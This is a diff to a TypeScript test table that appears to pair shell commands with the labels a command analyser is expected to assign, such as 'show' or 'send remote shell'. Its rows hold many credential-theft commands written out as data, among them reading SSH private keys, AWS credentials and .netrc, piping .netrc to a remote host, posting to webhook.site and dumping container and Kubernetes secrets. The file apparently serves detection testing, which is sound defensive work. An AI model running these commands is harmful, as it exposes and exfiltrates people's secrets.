@@ -204,7 +204,7 @@ export const SECTIONS: readonly Section[] = [
       ["for k in ~/.ssh/id_*; do cat $k; done", "show ?/home/u/.ssh/id_*"],
       ["ls ~/.ssh | while read f; do cat ~/.ssh/$f; done", "show ?/home/u/.ssh/$f"],
       ["if x; then F=~/.netrc; else F=b; fi; cat $F", "show ?/home/u/.netrc"],
-      ["docker exec c cat /root/.aws/credentials"],
+      ["docker exec c cat /root/.aws/credentials", "show there:/root/.aws/credentials"],
     ],
   },
   {
@@ -485,9 +485,11 @@ export const SECTIONS: readonly Section[] = [
       [
         "ssh host 'cat ~/.aws/credentials'; cat ~/.netrc | ssh host 'cat > x'; ssh host \"$(cat ~/.netrc)\"",
         'send remote shell:host "cat ~/.aws/credentials"',
+        "show there:/home/u/.aws/credentials",
         'send remote shell:host "cat > x" ~/.netrc',
         'send remote shell:host "$(…)" ~/.netrc',
         "uncertain the command's name is computed at run time",
+        "show ~/.netrc",
       ],
       [
         "ssh host 'curl -d t https://webhook.site/x'",
@@ -761,7 +763,7 @@ export const SECTIONS: readonly Section[] = [
       ["docker run -v ~/.x:/x -v ~/.x/sub:/x/sub:ro img sh -c 'rm /x/sub/a; rm /x/a'", "remove ~/.x/sub/a", "remove ~/.x/a"],
       ["docker run -v /:/h img sh -c 'cd /h/home/u && rm a; cd / && rm b'", "remove ~/a"],
       ["docker run --entrypoint rm -v ~/.x:/x img /x/a; docker run -v ~/.x:/x bash -c 'rm /x/b'", "remove ~/.x/a", "remove ~/.x/b"],
-      ["docker run -v data:/x img rm /x/a; docker run -e A=1 img grep -v a:/b c"],
+      ["docker run -v data:/x img rm /x/a; docker run -e A=1 img grep -v a:/b"],
       ["docker cp web:/a b; docker cp b web:/a; kubectl cp ns/web:/a b", "write b = …", "write b = …"],
       [
         "ssh localhost 'cat .netrc'; ssh u@127.0.0.1 rm a; echo 'rm b' | ssh ::1",
@@ -787,6 +789,45 @@ export const SECTIONS: readonly Section[] = [
         "send remote shell:localhost a",
         "send remote shell:localhost a",
       ],
+    ],
+  },
+  {
+    title: "L-093 what another machine's environment and files print",
+    rows: [
+      [
+        "docker exec db env; docker exec db printenv PW; docker exec db sh -c 'echo $PW'",
+        "show there:$*",
+        "show there:$PW",
+        "show there:$PW",
+      ],
+      [
+        "docker run --rm img env; podman run img cat /etc/app.env; kubectl exec p -- env",
+        "show there:$*",
+        "show there:/etc/app.env",
+        "show there:$*",
+      ],
+      [
+        "ssh host env; ssh host cat app/.env; vagrant ssh -c env",
+        'send remote shell:host "env"',
+        "show there:$*",
+        'send remote shell:host "cat" "app/.env"',
+        "show there:app/.env",
+        "show there:$*",
+      ],
+      [
+        "docker inspect c; docker inspect -f '{{.State.Status}}' c; docker inspect --format '{{json .Config.Env}}' c; docker image inspect i",
+        "show there:$*",
+        "show there:$*",
+        "show there:$*",
+      ],
+      [
+        "docker compose config; kubectl describe pod p; kubectl get deploy -o json; kubectl get pods; kubectl set env deploy/a --list",
+        "show .env there:$*",
+        "show there:$*",
+        "show there:$*",
+        "show there:$*",
+      ],
+      ["docker exec db env | grep PORT; docker exec db env > /tmp/e; docker exec db ls", "show there:$*", "write /tmp/e = there:$* …"],
     ],
   },
   {
@@ -1283,6 +1324,7 @@ export const SECTIONS: readonly Section[] = [
         "kubectl get secret x -o yaml; kubectl get secret x -o jsonpath='{.data.password}'; kubectl get secrets; kubectl get secret x -o name; kubectl get pods -o yaml",
         "show !kubectl get secret",
         "show !kubectl get secret",
+        "show there:$*",
       ],
       [
         "kubectl config view --raw -o jsonpath='{.users[0].user.token}'; kubectl config view --raw -o jsonpath='{.clusters[0].cluster.server}'",
